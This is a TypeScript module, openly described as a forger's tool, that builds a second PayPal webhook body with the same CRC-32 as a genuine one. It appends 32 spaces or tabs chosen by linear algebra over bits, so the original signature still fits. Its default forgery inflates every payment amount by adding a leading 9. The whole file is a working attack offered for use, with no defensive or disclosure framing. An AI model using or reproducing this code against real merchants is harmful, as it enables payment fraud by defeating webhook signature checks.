// A forger's tool: another body with the same CRC-32, so that a genuine signature of PayPal's fits it too.
// CRC-32 is linear: each sign of white space behind the JSON moves it by a known difference, and 32 of them reach any.
import { crc32 } from 'node:zlib';

/** What a forger would change: each sum gets a digit more in front. */
function tenfold(body: string): string {
  return body.replaceAll(/"value":"(?=\d)/g, '"value":"9');
}

/** Their differences are independent: CRC-32's polynomial is primitive, and a byte further is a conjugate of a bit further. */
const signs = 32;
const [space, tab] = [' ', '\t'];

/**
 * @param body of a webhook
 * @param forge what is to stand in it instead; by itself, larger sums
 * @returns valid JSON that says what `forge` wrote and has the CRC-32 of `body`
 */
export function forgedTwin(body: string, forge: (body: string) => string = tenfold): string {
  const forged = forge(body);
  const plain = checksum(forged, 0n);
  const basis = basisOf(Array.from({ length: signs }, (_, at) => checksum(forged, 1n << BigInt(at)) ^ plain));
  let left = (plain ^ crc32(Buffer.from(body))) >>> 0;
  let chosen = 0n;
  for (const { difference, tabs } of basis) {
    // Each has a highest bit of its own, and they come in falling order.
    if ((left ^ difference) >>> 0 >= left) continue;
    left = (left ^ difference) >>> 0;
    chosen ^= tabs;
  }
  if (left !== 0) throw new Error('twin: the signs are not independent');
  return forged + blanks(chosen);
}

interface Step {
  /** by how much the CRC-32 moves, unsigned */
  readonly difference: number;
  /** which signs have to be tabs for it, one bit each */
  readonly tabs: bigint;
}

/** Gauss over bits. */
function basisOf(differences: readonly number[]): Step[] {
  const basis: Step[] = [];
  differences.forEach((given, at) => {
    let [difference, tabs] = [given >>> 0, 1n << BigInt(at)];
    for (const step of basis) {
      if ((difference ^ step.difference) >>> 0 >= difference) continue;
      difference = (difference ^ step.difference) >>> 0;
      tabs ^= step.tabs;
    }
    if (difference !== 0) basis.push({ difference, tabs });
    basis.sort((a, b) => b.difference - a.difference);
  });
  return basis;
}

function checksum(body: string, tabs: bigint): number {
  return crc32(Buffer.from(body + blanks(tabs)));
}

function blanks(tabs: bigint): string {
  return Array.from({ length: signs }, (_, at) => ((tabs >> BigInt(at)) & 1n ? tab : space)).join('');
}
